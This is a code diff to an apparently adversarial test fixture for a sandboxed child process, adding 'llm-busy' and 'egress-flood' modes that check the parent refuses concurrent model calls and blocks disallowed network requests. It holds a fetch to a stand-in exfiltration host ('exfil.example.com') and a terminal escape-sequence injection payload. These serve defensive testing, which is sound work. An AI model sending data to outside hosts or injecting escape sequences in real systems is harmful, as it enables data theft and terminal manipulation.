@@ -8,6 +8,9 @@
  *   `flood <n>`         sends n requests for a method the parent does not serve, all at once;
  *   `llm-burst <n>`     fires n `llm.complete` at once and reports how many were answered;
  *   `llm-loop <n>`      makes n `llm.complete` calls one after the other;
+ *   `llm-busy <n>`      keeps one `llm.complete` waiting and, meanwhile, makes n more one after the
+ *                       other (each refused: one call at a time), then waits;
+ *   `egress-flood <n>`  makes n egress requests its policy does not allow, one after the other, then waits;
  *   `stderr`            writes terminal escape sequences to stderr and exits.
  */
 import { writeSync } from 'node:fs';
@@ -60,6 +63,28 @@ parent.handle('stage.run', z.object({ prompt: z.string() }).passthrough(), async
         );
       }
       return report(outcomes);
+    }
+    case 'llm-busy': {
+      const first = parent.request('llm.complete', completion).catch(() => undefined);
+      let refused = 0;
+      for (let i = 0; i < Number(a); i++) {
+        await parent.request('llm.complete', completion).then(
+          () => undefined,
+          () => refused++,
+        );
+      }
+      await first;
+      return report({ refused });
+    }
+    case 'egress-flood': {
+      let denied = 0;
+      for (let i = 0; i < Number(a); i++) {
+        await parent.fetch(`https://exfil.example.com/chunk/${i}`).then(
+          () => undefined,
+          () => denied++,
+        );
+      }
+      return report({ denied });
     }
     case 'stderr':
       process.stderr.write('about to fail \x1b]0;pwned\x07\x1b[2J\x1b[31mred\x9b1m\x07\x00 done\n', () => process.exit(3));
